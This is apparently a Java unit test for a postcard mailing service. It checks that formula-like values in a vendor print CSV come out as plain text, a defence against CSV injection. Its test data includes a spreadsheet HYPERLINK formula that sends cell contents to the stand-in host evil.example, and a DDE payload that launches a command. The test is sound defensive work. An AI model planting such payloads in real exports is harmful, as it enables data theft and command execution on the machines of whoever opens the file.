package jp.kenshin.outreach.mailing;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;

/** The vendor's print CSV never hands a spreadsheet a formula, whatever reached the database (OWASP CSV injection). */
class VendorCsvTest {

    @Test
    void formulaLikeNamesAndAddressesAreWrittenAsText() throws Exception {
        List<Postcard> cards = List.of(
                new Postcard("M0000001", "1700013", "=HYPERLINK(\"http://evil.example/\"&A1,\"x\")", "@SUM(1+1)*cmd|' /C calc'!A0",
                        "+試験 太郎", "26100000017", "standard"),
                new Postcard("M0000002", "1700013", "東京都豊島区東池袋1-2-3", "-101", "試験 花子", "26100000018", "standard"));
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        MailingService.writeVendorCsv(cards, out);

        String text = out.toString(StandardCharsets.UTF_8).substring(1);
        List<CSVRecord> records = CSVFormat.RFC4180.parse(new StringReader(text)).getRecords();
        CSVRecord evil = records.get(1);
        assertThat(evil.get(2)).isEqualTo("'=HYPERLINK(\"http://evil.example/\"&A1,\"x\")");
        assertThat(evil.get(3)).isEqualTo("'@SUM(1+1)*cmd|' /C calc'!A0");
        assertThat(evil.get(4)).isEqualTo("'+試験 太郎 様");
        // no field of the file starts a formula
        for (CSVRecord record : records) {
            for (String field : record) {
                assertThat(field).doesNotStartWith("=").doesNotStartWith("@").doesNotStartWith("+");
            }
        }
        // an ordinary card is unchanged; a room number "-101" is a number, not a formula, and stays as it is
        CSVRecord plain = records.get(2);
        assertThat(plain.get(2)).isEqualTo("東京都豊島区東池袋1-2-3");
        assertThat(plain.get(3)).isEqualTo("-101");
        assertThat(plain.get(4)).isEqualTo("試験 花子 様");
    }
}
